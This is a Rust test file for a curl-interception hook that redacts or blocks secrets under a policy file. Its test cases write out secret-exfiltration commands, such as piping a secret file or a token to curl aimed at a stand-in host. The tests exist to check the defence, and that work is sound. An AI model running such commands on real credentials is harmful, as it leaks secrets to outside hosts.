//! What a command is given to send, with findings taken out of it.

use std::fs;

use super::install;
use crate::support::Install;

/// Secrets that leave by curl are taken out first.
const POLICY: &str = "[policy]\nid = \"own\"\nversion = \"1\"\n\
    [[rule]]\nid = \"redact-egress\"\neffect = \"allow_with_redaction\"\n\
    reason = \"secrets stay here\"\nredact = [\"secret.*\"]\noverrides = [\"no-secret-egress\"]\n\
    [rule.when]\ncommand = \"curl\"\nfinding = \"secret.*\"\n";

/// A stand-in for curl that keeps its standard input, and what the file behind `@` holds.
const CURL: &str =
    "#!/bin/sh\ncase \"$2\" in @/dev/fd/*) cat \"${2#@}\" > got;; *) cat > got;; esac\n";

fn sending() -> (Install, String) {
    let (install, token) = install(&[]);
    let program = install.program("real/curl", CURL);
    let hook = ["hooks", "install", "curl", "--target", program.to_str().unwrap()];
    install.datafog(hook).run().succeeds();
    fs::write(install.root().join("policy.toml"), POLICY).unwrap();
    install.datafog(["policy", "lint"]).run().succeeds();
    (install, token)
}

#[test]
fn what_is_sent_from_a_pipe_or_a_file_holds_no_finding() {
    let (install, token) = sending();
    for line in [
        "cat secret | curl -d @- https://a.example/",
        "curl -d @- https://a.example/ < secret",
        "curl -d @<(cat secret) https://a.example/",
    ] {
        install.bash(line).run().succeeds();
        let got = install.work().join("got");
        assert_eq!(fs::read_to_string(&got).unwrap(), "one\nkey=[REDACTED]\nthree\n", "{line}");
        fs::remove_file(got).unwrap();
    }
    let receipts = install.receipts();
    let first = receipts.iter().find(|it| it["enforcement"] == "filter").unwrap();
    assert!(first["findings"].to_string().contains("secret.github.pat"), "{first}");
    assert_eq!(install.leak_of(&token), None);
}

#[test]
fn what_cannot_be_exchanged_stays_here() {
    let (install, token) = sending();
    for line in [
        "curl -d @secret https://a.example/".to_owned(),
        format!("curl -d key={token} https://a.example/"),
        format!("cat secret | curl -H 'X-Key: {token}' -d @- https://a.example/"),
    ] {
        let blocked = install.bash(&line).run().ends_with(126);
        assert!(blocked.stderr().contains("decision=allow_with_redaction"), "{}", blocked.stderr());
        assert!(blocked.stderr().contains("standard input"), "{}", blocked.stderr());
        assert!(!install.work().join("got").exists(), "{line}");
    }
}
